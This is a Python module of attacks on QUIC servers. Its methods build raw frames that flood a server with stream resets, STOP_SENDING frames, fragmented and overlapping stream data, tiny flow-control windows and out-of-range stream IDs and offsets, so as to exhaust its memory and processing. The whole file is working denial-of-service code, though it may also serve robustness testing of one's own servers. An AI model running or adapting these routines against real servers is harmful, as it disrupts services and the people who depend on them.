"""Attacks by streams."""

from attacker import Attacker
from frames import (
    FIN,
    HUGE,
    LENGTH,
    MAX_STREAM_DATA,
    OFFSET,
    PING,
    RESET_STREAM,
    STOP_SENDING,
    STREAM,
    STREAM_DATA_BLOCKED,
)
from wire import frame


class Streams(Attacker):
    """Opens, fills and ends them as no honest client does."""

    def reset_streams(self):
        """Every stream that there is credit for, begun by a RESET_STREAM (section 19.4)."""
        return self._resets(lambda stream: frame(RESET_STREAM, stream, 0, 0))

    def reset_begun_streams(self):
        """The same with a byte before it."""
        return self._resets(
            lambda stream: frame(STREAM | LENGTH, stream, 1, b"\x00", RESET_STREAM, stream, 0, 1)
        )

    def _resets(self, of):
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = []
        payload = b""
        for stream in range(0, 4 * streams, 4):
            payload += of(stream)
            if len(payload) > 1_100:
                packed.append(payload)
                payload = b""
        packed.append(payload)
        result = self._flood(packed, client=client)
        result["streams"] = streams
        return result

    def churned_streams(self):
        """Opens and resets as fast as new credit comes, and acknowledges."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 5_000:
            for _ in range(min(client.credit(), 100)):
                stream = client.stream(b"x")
                client.quic.reset_stream(stream, 0)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)

    def silent_streams(self):
        """A hello and a byte on 64 streams, then on as many as there is credit for; nothing more."""
        client = self._connected()
        for _ in range(min(client.credit(), 64)):
            client.stream(b"x")
        client.until(lambda: False, self.seconds / 2)
        more = 0
        while self._left() and client.closed is None and more < 1_000:
            if client.credit() > 0:
                client.stream(b"x")
                more += 1
            if more % 50 == 0 or client.credit() == 0:
                client.step(0.005)
        return self._result(client, more=more)

    def unread_answers(self):
        """Asks on 64 streams for what it never reads; its windows are small."""
        client = self._connected(max_data=4_096, max_stream_data=1_024)
        for _ in range(min(client.credit(), 64)):
            client.stream(b"y" * 900, fin=True)
        client.until(lambda: not self._left(), self.seconds + 1)
        return self._result(client)

    def untaken_answers(self):
        """Asks for small answers as long as there is credit, and takes none: they bring no credit for more."""
        client = self._connected(max_data=0, max_stream_data=0)
        asked = 0
        while asked < 3_000 and client.until(lambda: client.credit() > 0, 0.5):
            for _ in range(min(client.credit(), 50)):
                client.stream(b"y" * 900, fin=True)
                asked += 1
            client.step(0.005)
        return self._result(client, asked=asked)

    def gaps_in_streams(self):
        """Single bytes with gaps between them, on many streams: each is to be kept for what may come (section 2.2)."""
        client = self._connected()
        streams = min(client.credit(), 64)

        def packets():
            for offset in range(2, 120_000, 2):
                for stream in range(0, 4 * streams, 4 * 16):
                    yield b"".join(
                        frame(STREAM | OFFSET | LENGTH, stream + 4 * i, offset, 1, b"x") for i in range(16)
                    )

        return self._flood(packets(), client=client)

    def empty_stream_frames(self):
        """Frames without a byte for one stream, a thousand in a second and more."""
        client = self._connected()
        payload = frame(STREAM | OFFSET | LENGTH, 0, 1, 0) * 100
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))
        return self._flood((payload for _ in range(100_000)), client=client)

    def stop_sending(self):
        """STOP_SENDING for every stream that there is credit for, none of them begun."""
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = [
            b"".join(frame(STOP_SENDING, 4 * (i + k), 0) for k in range(200)) for i in range(0, streams - 200, 200)
        ]
        return self._flood(packed, client=client)

    def one_byte_holes(self):
        """Every other byte of one window, then each of them again with its neighbours: pieces overlap (section 2.2)."""
        client = self._connected()
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))

        def packets():
            while True:
                for offset in range(3, 200_000, 2 * 60):
                    yield b"".join(frame(STREAM | OFFSET | LENGTH, 0, offset + 2 * k, 1, b"x") for k in range(60))
                for offset in range(3, 200_000, 1_000):
                    yield frame(STREAM | OFFSET | LENGTH, 0, offset, 1_000, b"x" * 1_000)

        return self._flood(packets(), client=client)

    def overlapping_pieces(self):
        """The same thousand bytes, each time begun one further, with a hole before them."""
        client = self._connected()
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))

        def packets():
            for i in range(100_000):
                yield frame(STREAM | OFFSET | LENGTH, 0, 2 + i % 100_000, 1_000, b"x" * 1_000)

        return self._flood(packets(), client=client)

    def empty_ends(self):
        """Streams that end without a byte, as fast as there is credit: a sign of life of clients over netty, and a million of them."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 5_000:
            for _ in range(min(client.credit(), 100)):
                stream = client.quic.get_next_available_stream_id()
                client.quic.send_stream_data(stream, b"", end_stream=True)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)

    def half_ends(self):
        """A request on every stream that there is credit for, whose answer has no room, then PINGs: does each look at all of them?"""
        client = self._connected(max_data=2_048, max_stream_data=16)
        for _ in range(min(client.credit(), 400)):
            client.stream(b"y" * 20, fin=True)
        client.until(lambda: False, 0.2)
        return self._flood((frame(PING) for _ in range(100_000)), client=client)

    def dripped_windows(self):
        """Asks for 900 bytes on 64 streams, and lets one byte more come with each packet (section 19.10)."""
        client = self._connected(max_data=100_000, max_stream_data=8)
        streams = min(client.credit(), 64)
        for _ in range(streams):
            client.stream(b"y" * 900, fin=True)
        client.until(lambda: False, 0.1)

        def packets():
            for more in range(9, 1_000):
                for stream in range(0, 4 * streams, 4 * 16):
                    yield b"".join(frame(MAX_STREAM_DATA, stream + 4 * i, more) for i in range(16))

        return self._flood(packets(), client=client)

    def other_ends(self):
        """A RESET_STREAM that says another length than the FIN did (section 4.5), on one connection after the other."""
        return self._violations(
            lambda i: frame(STREAM | LENGTH | FIN, 0, 10, b"\x00" * 10, RESET_STREAM, 0, 0, 20 + i)
        )

    def no_hellos(self):
        """Streams that are opened without a byte, as many as there is credit for: each has less than a hello."""
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = [
            b"".join(frame(STREAM | LENGTH, 4 * (i + k), 0) for k in range(100)) for i in range(0, streams - 100, 100)
        ]
        return self._flood(packed, client=client)

    def no_room_for_ids(self):
        """A hello on each stream that there is credit for, and no window that would let an id come back."""
        client = self._connected(max_data=0, max_stream_data=0)
        for _ in range(min(client.credit(), 1_000)):
            client.stream(b"x")
        client.until(lambda: not self._left(), self.seconds + 1)
        return self._result(client)

    def far_offsets(self):
        """Numbers of streams, offsets and lengths at the end of what a varint holds (sections 4.1, 4.5 and 4.6)."""
        frames = (
            frame(STREAM | OFFSET | LENGTH, 0, HUGE - 1, 1, b"x"),
            frame(STREAM | OFFSET | LENGTH, 0, HUGE, 1, b"x"),
            frame(STREAM | OFFSET | LENGTH | FIN, 0, HUGE, 0),
            frame(STREAM | LENGTH, 0, 1, b"\x00", RESET_STREAM, 0, 0, HUGE),
            frame(STREAM | LENGTH, HUGE & ~3, 1, b"\x00"),
            frame(RESET_STREAM, HUGE & ~3, 0, 0),
            frame(STOP_SENDING, HUGE & ~3, 0),
            frame(MAX_STREAM_DATA, HUGE & ~3, 1),
            frame(STREAM_DATA_BLOCKED, HUGE & ~3, 1),
        )
        return self._violations(lambda i: frames[i % len(frames)])

    def streams_of_the_server(self):
        """Speaks on streams that only the server can open, and on streams of one direction (sections 2.1 and 19.8)."""
        frames = [
            of
            for stream in (1, 2, 3, 5, 401)
            for of in (
                frame(STREAM | LENGTH, stream, 1, b"\x00"),
                frame(RESET_STREAM, stream, 0, 0),
                frame(STOP_SENDING, stream, 0),
                frame(MAX_STREAM_DATA, stream, 100),
                frame(STREAM_DATA_BLOCKED, stream, 100),
            )
        ]
        return self._violations(lambda i: frames[i % len(frames)])

    def hellos(self):
        """Streams that begin with another byte than the hello, and streams with much behind it."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 3_000:
            for _ in range(min(client.credit(), 50)):
                stream = client.quic.get_next_available_stream_id()
                client.quic.send_stream_data(stream, bytes([1 + opened % 255]) * 100, end_stream=opened % 2 == 0)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)
